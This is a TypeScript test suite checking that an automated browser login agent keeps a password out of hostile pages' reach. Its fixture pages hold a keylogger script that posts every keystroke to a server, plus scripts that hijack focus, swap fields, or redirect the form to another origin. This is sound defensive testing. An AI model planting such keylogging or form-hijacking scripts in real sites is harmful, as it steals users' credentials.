import type { IncomingMessage, ServerResponse } from 'node:http';
import { ApplicationFailure } from '@temporalio/common';
import { afterAll, describe, expect } from 'vitest';
import { enterAnswer } from '../../activities/login/enter.ts';
import type { LoginDeps } from '../../activities/login/deps.ts';
import { createPages } from '../../activities/login/pages.ts';
import { createPasskeys } from '../../activities/login/passkeys.ts';
import { readLogin } from '../../activities/login/read-login.ts';
import { createBrowserService, type BrowserService } from '../../browser-client/service.ts';
import type { EnterOutcome, LoginTarget } from '../../contract/activities.ts';
import { createExternalCredentials } from '../../credential-providers/external-credentials.ts';
import { createEgressPolicy } from '../../egress/policy.ts';
import { API_KEY, startSite, type ServiceUnderTest, type Site } from '../browser/service-under-test.ts';
import { it } from '../browser/shared-service.ts';
import { addConnection, useStore } from '../store/databases.ts';
import { loginTarget } from './login-target.ts';

const PASSWORD = 'Zq7#kVx2!mWp9';
const PROJECT = { headers: { 'x-kernel-project-id': 'p' } };

/** Tells its server of every key that reaches a page, and of every text that is in one of its fields. */
const SPY = (at: string): string => `<script>
  for (const type of ['keydown', 'keypress', 'beforeinput'])
    addEventListener(type, (event) => fetch('/keys', { method: 'POST', body: '${at} ' + (event.data ?? event.key) }), true);
</script>`;
const FORM = (more = ''): string =>
  `<h1>Sign in</h1><form action="/in" method="post"><label>User <input name="user" id="user"></label>
   <label>Password <input type="password" name="pass" id="pass"></label><button>Sign in</button></form>${more}`;
/** A second step, which asks for the password alone. */
const ONE = (more: string): string =>
  `<h1>Sign in</h1><form action="/in" method="post"><label>Password <input type="password" name="pass" id="pass"></label>
   <button>Sign in</button></form>${more}`;
const AWAY = 'http://127.0.0.1:{port}';

const PAGES: Record<string, string> = {
  '/plain': FORM(),
  '/trap': `${SPY('trap')}${FORM('<script>document.getElementById("pass").focus()</script>')}`,
  '/trap-input': `${SPY('trap')}<input id="x" autofocus><script>document.getElementById("x").focus()</script>`,
  '/leaves-on-focus': FORM(
    `<script>document.getElementById('pass').onfocus = () => location = '${AWAY}/trap';</script>`,
  ),
  '/leaves-on-focus-late': FORM(
    `<script>document.getElementById('pass').onfocus = () => setTimeout(() => location = '${AWAY}/trap', 5);</script>`,
  ),
  '/leaves-on-key': FORM(
    `<script>document.getElementById('pass').onkeydown = () => location = '${AWAY}/trap';</script>`,
  ),
  '/popup-on-click': FORM(
    `<script>addEventListener('click', () => open('${AWAY}/trap-input'), { once: true });</script>`,
  ),
  '/popup-on-key': FORM(
    `<script>document.getElementById('pass').addEventListener('keydown', () => open('${AWAY}/trap-input'), { once: true });</script>`,
  ),
  '/search-steals': `<input id="search" type="search" name="q" placeholder="Search">${FORM(
    `<script>let n = 0; document.getElementById('pass').onkeydown = () => { if (++n === 4) document.getElementById('search').focus(); };</script>`,
  )}`,
  '/frame-steals': ONE(`<iframe width="300" height="60" src="${AWAY}/stealer"></iframe>`),
  '/stealer': `${SPY('frame')}<input id="x"><script>setInterval(() => document.getElementById('x').focus(), 10)</script>`,
  '/becomes-text': FORM(
    `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.type = 'text'; p.name = 'comment'; });</script>`,
  ),
  '/swaps': FORM(
    `<script>document.getElementById('user').addEventListener('input', () => { const p = document.getElementById('pass'); p.outerHTML = '<textarea id="pass" name="comment"></textarea>'; }, { once: true });</script>`,
  ),
  '/posts-away': FORM().replace('/in', `${AWAY}/taken`),
  '/turns-away': FORM(
    `<script>document.querySelector('form').onsubmit = ({ target }) => { target.action = '${AWAY}/taken'; };</script>`,
  ),
  '/repeats': FORM(`<div role="alert">ann, the password ${PASSWORD} is wrong.</div>`),
  '/alerts': FORM(
    `<script>document.getElementById('pass').addEventListener('focus', () => alert('Beware'), { once: true });</script>`,
  ),
};

type Handler = (request: IncomingMessage, response: ServerResponse) => void;

const stores = useStore();
let service: ServiceUnderTest;
let site: Site;
let deps: LoginDeps;
let caller: BrowserService;
let sessionId: string;
let stolen: string[] = [];
let posted: string[] = [];

const take =
  (into: () => string[]): Handler =>
  (request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      into().push(`${request.headers.host ?? ''} ${Buffer.concat(chunks).toString()}`);
      response.setHeader('content-type', 'text/html');
      response.end('<h1>Welcome</h1><a href="/logout">Log out</a>');
    });
  };

it.beforeAll(async ({ service: shared }) => {
  service = shared;
  const pages = Object.entries(PAGES).map(([path, html]): [string, Handler] => [
    path,
    (_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<!doctype html><title>Site</title>${html.replaceAll('{port}', String(site.port))}`);
    },
  ]);
  site = await startSite({
    ...Object.fromEntries(pages),
    '/keys': take(() => stolen),
    '/in': take(() => posted),
    '/taken': take(() => posted),
  });
  caller = createBrowserService({ baseUrl: service.handle.url, apiKey: API_KEY });
  sessionId = (await service.kernel.browsers.create({ timeout_seconds: 300 }, PROJECT)).session_id;
  const egress = createEgressPolicy(`localhost:${site.port},127.0.0.1:${site.port}`);
  deps = {
    store: stores().store,
    service: caller,
    pages: createPages(caller),
    egress,
    externalCredentials: createExternalCredentials({ providers: { open: () => Promise.resolve(null) }, egress }),
  };
});
afterAll(async () => {
  await deps.pages.close();
  await service.kernel.browsers.deleteByID(sessionId, PROJECT);
  await caller.close();
  site.close();
});

async function logIn(path: string, settings: Partial<LoginTarget> = {}): Promise<EnterOutcome | string> {
  stolen = [];
  posted = [];
  const last = await deps.pages.of('p', sessionId);
  const page = await last.context().newPage();
  for (const other of page.context().pages()) if (other !== page) await other.close();
  const own = `localhost:${site.port}`;
  const connectionId = await addConnection(deps.store);
  const target = loginTarget({ domain: own, allowedDomains: [own], connectionId, ...settings });
  await page.goto(`${site.origin}${path}`);
  const { fields, submit } = await readLogin(page);
  const { submissionId } = await deps.store.submissions.seal({
    connectionId,
    interactionId: 'int',
    values: { user: 'ann', pass: PASSWORD },
    expiresAt: new Date(Date.now() + 60_000),
  });
  const entries = fields.map((field) => ({
    field,
    ref: field.name,
    source: { kind: 'submission' as const, fieldId: field.name },
  }));
  const input = {
    target,
    flowId: `flow_${connectionId}`,
    sessionId,
    entryId: 'int',
    answer: { entries, submit, choice: null },
    submissionId,
    credentialId: null,
    keptId: null,
    keepUntil: new Date(Date.now() + 60_000).toISOString(),
  };
  return await enterAnswer(deps, createPasskeys(deps), input, new AbortController().signal).catch((error: unknown) =>
    error instanceof ApplicationFailure ? (error.type ?? '') : String(error),
  );
}

const WHOLE = (): string[] => [
  `localhost:${site.port} user=ann&pass=${encodeURIComponent(PASSWORD).replace('!', '%21')}`,
];

describe('a password', () => {
  it.each([
    ['a login page', '/plain'],
    ['a page that another one comes in the place of as the field is entered', '/leaves-on-focus'],
    ['the same a moment later', '/leaves-on-focus-late'],
    ['a page that opens a window at the first click', '/popup-on-click'],
    ['a page that opens one at the first key', '/popup-on-key'],
    ['a page whose search takes the focus', '/search-steals'],
    ['a page that shows a dialog', '/alerts'],
  ])('goes where it belongs, whole and once, on %s', async (_what, path) => {
    const outcome = await logIn(path);
    expect(stolen).toEqual([]);
    expect(posted).toEqual(WHOLE());
    expect(outcome).toMatchObject({ reading: { kind: 'logged_in' } });
  });

  it.each([
    ['a field that has become another', '/becomes-text', 'element_not_found'],
    ['a comment in its place', '/swaps', 'element_not_found'],
    ['a form that sends it to a site that is not allowed', '/posts-away', 'domain_not_allowed'],
    ['a form that turns to such a site as it is sent', '/turns-away', 'domain_not_allowed'],
  ])('does not go by %s', async (_what, path, code) => {
    expect(await logIn(path)).toBe(code);
    expect([...stolen, ...posted]).toEqual([]);
  });

  it('does not reach a page that wants to come in the place of the login at each key', async () => {
    await logIn('/leaves-on-key');
    expect(stolen).toEqual([]);
    expect(posted.filter((each) => each.startsWith('127.0.0.1'))).toEqual([]);
  });

  it("does not reach a stranger's frame that takes the focus", async () => {
    await logIn('/frame-steals');
    expect(stolen).toEqual([]);
  });

  it('is left out of what a page repeats of it steps later', async () => {
    await logIn('/plain');
    const page = await deps.pages.of('p', sessionId);
    await page.goto(`${site.origin}/repeats?said=${encodeURIComponent(PASSWORD)}`);
    const later = await readLogin(page);
    expect(later.website_error).toBe('ann, the password ••• is wrong.');
    expect(JSON.stringify(later)).not.toContain(PASSWORD);
  });

  it('may be sent to another site where the connection names none', async () => {
    await logIn('/posts-away', { allowedDomains: [] });
    expect(posted).toEqual([expect.stringContaining(`127.0.0.1:${site.port} user=ann&pass=`)]);
  });
});
